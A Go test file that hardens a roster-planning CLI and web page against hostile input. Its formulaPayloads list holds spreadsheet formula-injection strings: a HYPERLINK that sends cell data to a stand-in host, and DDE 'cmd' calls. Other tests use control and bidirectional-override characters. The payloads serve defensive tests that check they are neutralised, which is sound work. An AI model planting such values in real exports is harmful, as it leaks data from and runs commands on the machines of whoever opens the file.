package main

// Tests of the defects found by trying the CLI and the page as an attacker
// and as a careless user would: each fails on the code before the fix.

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"math"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mutasi-id/mutasi/internal/i18n"
	"github.com/mutasi-id/mutasi/internal/report"
	"github.com/mutasi-id/mutasi/internal/serve"
	"github.com/mutasi-id/mutasi/internal/serve/servetest"
	"github.com/stretchr/testify/require"

	"github.com/mutasi-id/mutasi"
	"github.com/xuri/excelize/v2"
)

// hardenRoster writes the sample roster into a temporary folder after edit
// has changed its rows (headers first) and returns the two files.
func hardenRoster(t *testing.T, edit func(off, pos [][]string)) (offPath, posPath string) {
	t.Helper()
	read := func(name string) [][]string {
		f, err := os.Open(filepath.Join(serveSampleDir, name))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		recs, err := csv.NewReader(f).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		return recs
	}
	off, pos := read("officials.csv"), read("positions.csv")
	edit(off, pos)
	dir := t.TempDir()
	write := func(name string, recs [][]string) string {
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		w.WriteAll(recs)
		path := filepath.Join(dir, name)
		if err := os.WriteFile(path, b.Bytes(), 0o600); err != nil {
			t.Fatal(err)
		}
		return path
	}
	return write("officials.csv", off), write("positions.csv", pos)
}

// formulaPayloads are cell values a spreadsheet would run as formulas.
var formulaPayloads = []string{
	`=HYPERLINK("http://example.invalid/?d="&A1,"klik")`,
	`+cmd|' /C calc'!A0`,
	`-2+3+cmd|' /C calc'!A0`,
	`@SUM(1+1)*cmd|' /C calc'!A0`,
}

// formulaRoster is the sample with every name and post name made a
// formula.
func formulaRoster(t *testing.T) (string, string) {
	return hardenRoster(t, func(off, pos [][]string) {
		for k := 1; k < len(off); k++ {
			off[k][1] = formulaPayloads[k%len(formulaPayloads)] + " " + off[k][1]
		}
		for k := 1; k < len(pos); k++ {
			pos[k][1] = formulaPayloads[(k+1)%len(formulaPayloads)] + " " + pos[k][1]
		}
	})
}

// plainNumber reports whether a cell is a signed decimal (-1.5), which no
// spreadsheet reads as a formula.
func plainNumber(s string) bool {
	_, err := strconv.ParseFloat(s, 64)
	return err == nil && strings.Trim(s, "+-.0123456789") == ""
}

// checkCSVNeutral fails when a cell of the CSV data could start a formula.
func checkCSVNeutral(t *testing.T, what string, data []byte) {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(data))
	if head, _, _ := bytes.Cut(data, []byte("\n")); bytes.Count(head, []byte(";")) > bytes.Count(head, []byte(",")) {
		r.Comma = ';' // the Indonesian lampiran
	}
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("%s: %v", what, err)
	}
	neutral := 0
	for r, rec := range recs {
		for c, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r\n", rune(cell[0])) && cell != "-" && !plainNumber(cell) {
				t.Fatalf("%s: row %d column %d starts a formula: %q", what, r+1, c+1, cell)
			}
			if strings.HasPrefix(cell, "'") {
				neutral++
			}
		}
	}
	if neutral == 0 || len(recs) < 10 {
		t.Fatalf("%s: %d rows, %d cells neutralised: the payloads did not reach the lampiran", what, len(recs), neutral)
	}
}

// TestHardenCSVFormulaNeutralised: names and post names that start with a
// formula reach the lampiran CSV as text, from the CLI and from the page's
// download; in the workbook they stay plain text cells, unchanged.
func TestHardenCSVFormulaNeutralised(t *testing.T) {
	off, pos := formulaRoster(t)
	code, out, errs := runCapture(t, "", "solve", "--officials", off, "--positions", pos, "--date", mutasi.SampleDate, "--format", "csv")
	if code != exitOK {
		t.Fatalf("solve: exit %d: %s", code, errs)
	}
	checkCSVNeutral(t, "solve --format csv", []byte(out))

	h := serveTestApp(t, "127.0.0.1", "")
	sess := servetest.NewSession[serve.State](t, h).Session
	if w, _ := servetest.Load[serve.State](t, h, sess, [][2]string{{"officials", "@" + off}, {"positions", "@" + pos}}); w.Code != http.StatusOK {
		t.Fatalf("load: %d %s", w.Code, w.Body)
	}
	w := servetest.Do(t, h, servetest.Request{Target: "/api/download?what=csv&session=" + sess})
	if w.Code != http.StatusOK {
		t.Fatalf("download: %d %s", w.Code, w.Body)
	}
	checkCSVNeutral(t, "the page's CSV download", w.Body.Bytes())

	xlsx := filepath.Join(t.TempDir(), "lampiran.xlsx")
	if code, _, errs := runCapture(t, "", "solve", "--officials", off, "--positions", pos, "--date", mutasi.SampleDate,
		"--format", "xlsx", "--out", xlsx); code != exitOK {
		t.Fatalf("solve xlsx: exit %d: %s", code, errs)
	}
	f, err := excelize.OpenFile(xlsx)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows(report.SheetLampiran)
	if err != nil {
		t.Fatal(err)
	}
	payload := 0
	for r, row := range rows {
		for c := range row {
			cell, _ := excelize.CoordinatesToCellName(c+1, r+1)
			if formula, _ := f.GetCellFormula(report.SheetLampiran, cell); formula != "" {
				t.Fatalf("cell %s is a formula: %q", cell, formula)
			}
			for _, p := range formulaPayloads {
				if strings.HasPrefix(row[c], p) {
					payload++
				}
			}
		}
	}
	if payload == 0 {
		t.Error("the workbook lost the payloads' text (they must stay as written, as text)")
	}
}

// TestHardenLoadIsAtomic loads two rosters in turn while explaining and
// asking for alternatives: no answer may come from the new roster with the
// old plan (500, "the scores were built for another roster").
func TestHardenLoadIsAtomic(t *testing.T) {
	off, pos := hardenRoster(t, func(off, pos [][]string) {
		// One official fewer: the score matrix of one roster does not fit
		// the other.
		copy(off[len(off)-1], off[len(off)-2])
		off[len(off)-2] = off[len(off)-1]
		off = off[:len(off)-1]
		_ = off
	})
	// hardenRoster's edit cannot shorten the slice it was given: write the
	// shorter file here.
	data, err := os.ReadFile(off)
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSuffix(string(data), "\n"), "\n")
	if err := os.WriteFile(off, []byte(strings.Join(lines[:len(lines)-1], "\n")+"\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	h := serveTestApp(t, "127.0.0.1", "")
	sess := servetest.NewSession[serve.State](t, h).Session
	r, _ := loadSampleRoster(t)
	nip := r.Officials[0].NIP.Raw
	done := make(chan struct{})
	var wg sync.WaitGroup
	var mu sync.Mutex
	var bad []string
	for _, target := range []string{"/api/explain?nip=" + nip + "&session=" + sess, "/api/alternatives?k=1&session=" + sess} {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for {
				select {
				case <-done:
					return
				default:
				}
				w := servetest.Do(t, h, servetest.Request{Target: target})
				if w.Code >= 500 && w.Code != http.StatusServiceUnavailable {
					mu.Lock()
					bad = append(bad, fmt.Sprintf("%s: %d %s", target, w.Code, strings.TrimSpace(w.Body.String())))
					mu.Unlock()
				}
			}
		}()
	}
	for k := range 12 {
		parts := [][2]string{{"sample", "1"}}
		if k%2 == 0 {
			parts = [][2]string{{"officials", "@" + off}, {"positions", "@" + pos}}
		}
		if w, _ := servetest.Load[serve.State](t, h, sess, parts); w.Code != http.StatusOK {
			t.Fatalf("load %d: %d %s", k, w.Code, w.Body)
		}
	}
	close(done)
	wg.Wait()
	if len(bad) > 0 {
		t.Errorf("%d answers saw a roster without its plan, first: %s", len(bad), bad[0])
	}
}

// TestHardenWeightsBounded: a weight or a numeric setting too large to
// score with is refused naming the key, exit 2 and HTTP 422, never exit 1
// or HTTP 500.
func TestHardenWeightsBounded(t *testing.T) {
	for _, args := range [][]string{
		{"solve", "--weight", "fit=1e308"},
		{"solve", "--weight", "fit=1e300", "--weight", "performance=1e300", "--format", "json"},
		{"whatif", "--scenario", "big:fit=1e308"},
		{"explain", "--weight", "release=1e308", "197104242001061931"},
	} {
		code, _, errs := runCapture(t, "", args...)
		if code != exitUsage || !strings.Contains(errs, "weights.") {
			t.Errorf("%v: exit %d, want 2 naming the weight: %s", args, code, errs)
		}
	}
	pol := filepath.Join(t.TempDir(), "p.toml")
	os.WriteFile(pol, []byte("[weights]\nfit = 1e308\n"), 0o600)
	if code, _, errs := runCapture(t, "", "solve", "--policy", pol); code != exitUsage || !strings.Contains(errs, "fit") {
		t.Errorf("policy file: exit %d: %s", code, errs)
	}

	h := serveTestApp(t, "127.0.0.1", "")
	st := servetest.NewSession[serve.State](t, h)
	seq := st.Seq
	for _, s := range st.Settings {
		if _, err := fmt.Sscan(s.Value, new(float64)); err != nil {
			continue // not a number
		}
		for _, v := range []string{"1e308", "-1e308", "1e400"} {
			seq++
			w, _ := servetest.Solve[serve.SolveResponse](t, h, st.Session, serve.SolveRequest{Seq: seq, Set: map[string]string{s.Key: v}})
			if w.Code != http.StatusUnprocessableEntity || !strings.Contains(w.Body.String(), strings.TrimPrefix(s.Key, "weights.")) {
				t.Errorf("%s=%s: %d %s, want 422 naming the key", s.Key, v, w.Code, w.Body)
			}
		}
	}
}

// TestHardenPlanDate: the page refuses the plan dates the CLI refuses, and
// a mistyped year is named as such.
func TestHardenPlanDate(t *testing.T) {
	for _, d := range []string{"1900-01-01", "0001-01-01", "2000-01-01", "9999-12-31"} {
		code, _, errs := runCapture(t, "", "solve", "--lang", "en", "--date", d)
		// The date as written, or in words (a cell after the plan date).
		named := strings.Contains(errs, d)
		if t, err := time.Parse(time.DateOnly, d); err == nil {
			named = named || strings.Contains(errs, i18n.EN.Date(t))
		}
		if code != exitUsage || strings.Contains(errs, "not set") || !named {
			t.Errorf("solve --date %s: exit %d, want 2 naming the date: %s", d, code, errs)
		}
	}
	h := serveTestApp(t, "127.0.0.1", "")
	st := servetest.NewSession[serve.State](t, h)
	for k, d := range []string{"1900-01-01", "0001-01-01", "2000-01-01", "9999-12-31"} {
		w, _ := servetest.Solve[serve.SolveResponse](t, h, st.Session, serve.SolveRequest{Seq: st.Seq + 1 + int64(k), Set: map[string]string{"date": d}})
		if w.Code != http.StatusUnprocessableEntity || !strings.Contains(w.Body.String(), d) {
			t.Errorf("page date %s: %d %s, want 422 naming the date", d, w.Code, w.Body)
		}
	}
}

// TestHardenOutFolderCheckedFirst: an --out in a missing folder is refused
// before the roster is read, naming the folder, not a temporary file.
func TestHardenOutFolderCheckedFirst(t *testing.T) {
	missing := filepath.Join(t.TempDir(), "no", "such")
	for _, args := range [][]string{
		{"solve", "--out", filepath.Join(missing, "lampiran.csv"), "--format", "csv"},
		{"whatif", "--out", filepath.Join(missing, "w.txt"), "--scenario", "a:fit=2"},
		{"explain", "--out", filepath.Join(missing, "e.txt"), "197104242001061931"},
		// The bad roster would be reported if it were read first.
		{"solve", "--out", filepath.Join(missing, "x.csv"), "--officials", "nope.csv", "--positions", "nope.csv"},
	} {
		code, _, errs := runCapture(t, "", args...)
		if code != exitUsage || !strings.Contains(errs, missing) || strings.Contains(errs, ".tmp") || strings.Contains(errs, "nope.csv") {
			t.Errorf("%v: exit %d, want 2 naming the folder first: %s", args, code, errs)
		}
	}
}

// TestHardenControlCharacters: control characters and bidirectional
// overrides in the roster are refused with file, row and column.
func TestHardenControlCharacters(t *testing.T) {
	off, pos := hardenRoster(t, func(off, pos [][]string) {
		off[1][1] = "Budi\x00Contoh"
		off[2][1] = "Andi \x1b[31mMerah\x1b[0m"
		off[3][1] = "Siti \u202eetiS"
		pos[2][1] = "Kepala\u0085Dinas"
	})
	code, out, errs := runCapture(t, "", "validate", "--lang", "en", "--officials", off, "--positions", pos, "--date", mutasi.SampleDate)
	errs = out + errs // validate lists the problems on stdout
	if code != exitUsage {
		t.Fatalf("validate: exit %d, want 2:\n%s", code, errs)
	}
	for _, want := range []string{
		off + `:2: column nama: "Budi\x00Contoh": holds a control character (U+0000)`,
		off + `:3: column nama: "Andi \x1b[31mMerah\x1b[0m": holds a control character (U+001B)`,
		off + `:4: column nama: "Siti \u202eetiS": holds a bidirectional control character (U+202E)`,
		pos + `:3: column nama_jabatan: "Kepala\u0085Dinas": holds a control character (U+0085)`,
	} {
		if !strings.Contains(errs, want) {
			t.Errorf("missing %s in\n%s", want, errs)
		}
	}
	if strings.ContainsAny(errs, "\x00\x1b\u202e\u0085") {
		t.Error("the messages carry the raw control characters to the terminal")
	}
}

// TestHardenSeqValidated: a solve numbered far ahead is refused and does not
// block the page's next solves.
func TestHardenSeqValidated(t *testing.T) {
	h := serveTestApp(t, "127.0.0.1", "")
	st := servetest.NewSession[serve.State](t, h)
	for _, seq := range []int64{math.MaxInt64, -1} {
		w, _ := servetest.Solve[serve.SolveResponse](t, h, st.Session, serve.SolveRequest{Seq: seq})
		if w.Code != http.StatusBadRequest {
			t.Errorf("seq %d: %d %s, want 400", seq, w.Code, w.Body)
		}
	}
	if w, _ := servetest.Solve[serve.SolveResponse](t, h, st.Session, serve.SolveRequest{Seq: st.Seq + 1}); w.Code != http.StatusOK {
		t.Errorf("the next solve: %d %s", w.Code, w.Body)
	}
}

// TestHardenProblemsOnThePage: a value refused for its control characters
// reaches the page written out, not raw.
func TestHardenProblemsOnThePage(t *testing.T) {
	off, pos := hardenRoster(t, func(off, pos [][]string) { off[1][1] = "Siti \u202eetiS" })
	h := serveTestApp(t, "127.0.0.1", "")
	sess := servetest.NewSession[serve.State](t, h).Session
	w, st := servetest.Load[serve.State](t, h, sess, [][2]string{{"officials", "@" + off}, {"positions", "@" + pos}})
	if w.Code != http.StatusUnprocessableEntity || len(st.Problems) == 0 {
		t.Fatalf("load: %d %s", w.Code, w.Body)
	}
	var raw map[string]json.RawMessage
	require.NoError(t, json.Unmarshal(w.Body.Bytes(), &raw))
	if strings.Contains(string(raw["problems"]), "\u202e") || !strings.Contains(st.Problems[0].Value, `\u202E`) {
		t.Errorf("problems: %s", raw["problems"])
	}
}

// TestHardenLoadStopsWithTheRequest: an upload whose client went away is
// not read (503), instead of being parsed to the end for nobody.
func TestHardenLoadStopsWithTheRequest(t *testing.T) {
	h := serveTestApp(t, "127.0.0.1", "")
	sess := servetest.NewSession[serve.State](t, h).Session
	for _, parts := range [][][2]string{
		{{"workbook", "@" + serveSampleDir + "/roster.xlsx"}},
		{{"officials", "@" + serveSampleDir + "/officials.csv"}, {"positions", "@" + serveSampleDir + "/positions.csv"}},
	} {
		body, ct := servetest.Form(t, parts)
		ctx, cancel := context.WithCancel(context.Background())
		cancel() // the client left
		r := httptest.NewRequestWithContext(ctx, http.MethodPost, "/api/load?lang=en&session="+sess, body)
		r.Host = "127.0.0.1:8080"
		r.Header.Set("Content-Type", ct)
		r.Header.Set("Origin", "http://127.0.0.1:8080")
		r.Header.Set("Sec-Fetch-Site", "same-origin")
		w := httptest.NewRecorder()
		h.ServeHTTP(w, r)
		if w.Code != http.StatusServiceUnavailable || !strings.Contains(w.Body.String(), "not read") {
			t.Errorf("%s: %d %.200s, want 503: not read", parts[0][1], w.Code, w.Body)
		}
		// The session still shows the roster it had.
		var st serve.State
		require.NoError(t, json.Unmarshal(servetest.Do(t, h, servetest.Request{Method: "POST", Target: "/api/base?session=" + sess}).Body.Bytes(), &st))
		if st.Roster != "sample" || st.Plan == nil {
			t.Errorf("%s: after the cancelled load the session shows %q (plan %v)", parts[0][1], st.Roster, st.Plan != nil)
		}
	}
}
